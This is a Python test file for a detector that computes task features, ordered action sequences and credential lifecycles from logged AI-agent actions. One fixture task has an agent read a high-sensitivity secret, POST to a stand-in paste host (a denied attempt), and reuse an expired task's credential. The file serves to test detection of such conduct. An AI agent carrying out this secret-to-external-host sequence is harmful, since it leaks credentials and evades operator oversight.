"""Derived tables on hand-made tasks: lifecycles, sequences (ordering, ties) and task features."""

from __future__ import annotations

from detectors.derive import build_derived_tables
from tests.conftest import Ingester, native_task


def _act(event_id: str, ts: str, task: str, tool: str, agent: str = "agent-1", **extra) -> dict:
    return {
        "record_type": "action",
        "event_id": event_id,
        "ts": ts,
        "agent_id": agent,
        "task_id": task,
        "tool": tool,
        **extra,
    }


RECORDS = [
    *native_task("t1", "agent-1", "2026-11-02T09:00:00Z", "2026-11-02T09:10:00Z"),
    *native_task("t2", "agent-1", "2026-11-03T22:00:00Z", "2026-11-03T22:30:00Z"),
    {
        "record_type": "credential",
        "event_id": "c1",
        "ts": "2026-11-02T09:00:01Z",
        "event": "issue",
        "credential_ref": "jit-1",
        "task_id": "t1",
        "agent_id": "agent-1",
        "ttl_s": 3600,
    },
    _act(
        "a1",
        "2026-11-02T09:01:00Z",
        "t1",
        "read_file",
        arguments={"path": "/srv/a"},
        credential_ref="jit-1",
    ),
    _act(
        "a2",
        "2026-11-02T09:02:00Z",
        "t1",
        "send_email",
        arguments={"to": "ops@example.com"},
        credential_ref="jit-1",
    ),
    # t2: the same tool again, two new ones, a sensitive read, an external egress, a denial, and the
    # t1 credential used again after t1 ended.
    _act("b2", "2026-11-03T22:01:00Z", "t2", "read_file", arguments={"path": "/srv/b"}),
    _act("b1", "2026-11-03T22:01:00Z", "t2", "get_secret", action_class="read", sensitivity="high"),
    _act(
        "b3",
        "2026-11-03T22:02:00Z",
        "t2",
        "http_post",
        arguments={"url": "https://paste.evil.example.net/x"},
        outcome="denied",
    ),
    _act("b4", "2026-11-03T22:03:00Z", "t2", "spawn_subagent", credential_ref="jit-1"),
]


def test_task_features_count_what_each_task_did(ingest: Ingester):
    ingest.lines("f.jsonl", RECORDS, fmt="native")
    build_derived_tables(ingest.con)
    rows = {r["task_id"]: r for r in ingest.rows("SELECT * FROM task_features")}
    t1, t2 = rows["t1"], rows["t2"]
    assert (t1["actions"], t1["reads"], t1["egress"], t1["external_egress"]) == (2, 1, 1, 0)
    assert (t1["new_tools"], t1["new_destinations"]) == (
        0,
        0,
    )  # the agent's first task has no baseline
    assert (t1["duration_s"], t1["hour_of_day"], t1["weekday"], t1["credentials_used"]) == (
        600,
        9,
        1,
        1,
    )
    assert (
        t1["max_ttl_s"] == 3600 and t1["max_validity_after_task_s"] == 3001
    )  # 10:00:01 - 09:10:00
    assert (
        t2["actions"],
        t2["sensitive_reads"],
        t2["external_egress"],
        t2["denials"],
        t2["delegations"],
    ) == (4, 1, 1, 1, 1)
    assert t2["new_tools"] == 3  # get_secret, http_post, spawn_subagent; read_file is known
    assert t2["new_destinations"] == 2  # /srv/b and the paste URL
    assert (t2["hour_of_day"], t2["weekday"], t2["distinct_tools"]) == (22, 2, 4)


def test_sequences_are_ordered_with_ties_broken_by_event_id(ingest: Ingester):
    ingest.lines("f.jsonl", RECORDS, fmt="native")
    build_derived_tables(ingest.con)
    seq = ingest.rows("SELECT * FROM task_sequences WHERE task_id = 't2'")[0]
    assert [a["event_id"] for a in seq["actions"]] == [
        "native:b1",
        "native:b2",
        "native:b3",
        "native:b4",
    ]
    assert seq["class_path"] == "read>read>egress>delegate"


def test_lifecycle_of_a_credential_used_after_itsnative_task(ingest: Ingester):
    ingest.lines("f.jsonl", RECORDS, fmt="native")
    build_derived_tables(ingest.con)
    life = ingest.rows("SELECT * FROM credential_lifecycles")[0]
    assert (life["task_id"], life["uses"], life["uses_after_task_end"], life["distinct_tasks"]) == (
        "t1",
        3,
        1,
        2,
    )
    assert str(life["expires_at"]) == "2026-11-02 10:00:01" and life["ended_by"] == "expired"
    assert life["validity_after_task_s"] == 3001 and life["revoked_at"] is None
    assert life["idle_validity_share"] == 0.0  # it was used right up to (and past) its expiry
